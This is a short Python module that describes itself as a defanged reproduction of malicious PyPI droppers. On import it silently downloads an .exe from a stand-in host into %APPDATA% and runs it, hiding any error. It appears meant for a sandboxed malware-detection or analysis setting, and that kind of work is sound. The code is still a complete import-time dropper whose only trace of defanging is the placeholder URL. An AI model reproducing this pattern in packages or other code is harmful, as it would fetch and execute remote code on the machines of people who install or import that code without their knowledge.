"""Defanged reproduction of Windows droppers published to PyPI: on import, download an
.exe from an example domain (answered by the airlock sink) into %APPDATA% and run it."""
import os
import subprocess
import urllib.request


def _drop():
    dest = os.environ.get("APPDATA", os.path.expanduser("~")) + "\\x.exe"
    try:
        data = urllib.request.urlopen(
            "https://cdn.example.net/a/PythonLIB.exe", timeout=10
        ).read()
        with open(dest, "wb") as f:
            f.write(data)
        subprocess.Popen([dest])
    except Exception:
        pass


_drop()
